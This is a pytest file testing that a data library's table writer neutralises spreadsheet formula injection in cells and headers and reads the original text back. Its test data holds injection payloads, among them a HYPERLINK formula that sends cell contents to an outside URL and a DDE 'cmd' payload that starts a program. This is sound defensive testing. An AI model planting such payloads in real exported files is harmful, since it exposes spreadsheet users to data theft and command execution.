"""Tables that people open in a spreadsheet run nothing there, and are read back as they were."""

import csv

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ichdag.columns import SUBJECT
from ichdag.schema import Schema, number
from ichdag.tables import read_table, write_table

PEOPLE = Schema("people", (SUBJECT, number("age", "age", missing=True)))
# What OWASP's page on CSV injection names, the wide forms among it.
BEGIN = tuple("=+-@\t\r＝＋－＠")
TEXTS = [
    '=HYPERLINK("http://a.org/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "＝1",
    "'=1",
    "''+1",
    "'quoted'",
    "n-a",
    "a=b",
]


def people(texts, header="remark"):
    columns = {"subject": [f"{n}" for n in range(len(texts))], "age": [-1.5] * len(texts), header: texts}
    return pd.DataFrame(columns)


@pytest.mark.parametrize("header", ["remark", "=1+1", "@a", "'-b", "-"])
def test_no_cell_and_no_header_of_a_table_is_computed_by_a_spreadsheet(tmp_path, header):
    write_table(people(TEXTS, header), tmp_path / "a.tsv", PEOPLE)
    with open(tmp_path / "a.tsv", encoding="utf-8", newline="") as stream:
        rows = list(csv.reader(stream, delimiter="\t"))
    assert rows[1][1] == "-1.5", "a number stays one"
    assert not any(cell.startswith(BEGIN) for row in rows for cell in (row[0], row[2]))
    frame = read_table(tmp_path / "a.tsv", PEOPLE)
    assert list(frame[header]) == TEXTS and list(frame) == ["subject", "age", header]


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(texts=st.lists(st.text("'=+-@ab ", min_size=1).map(lambda text: f"{text}x"), min_size=1, max_size=4))
def test_texts_are_read_as_they_were_written(tmp_path, texts):
    for suffix in (".tsv", ".parquet"):
        write_table(people(texts), tmp_path / f"a{suffix}", PEOPLE)
        assert list(read_table(tmp_path / f"a{suffix}", PEOPLE)["remark"]) == texts
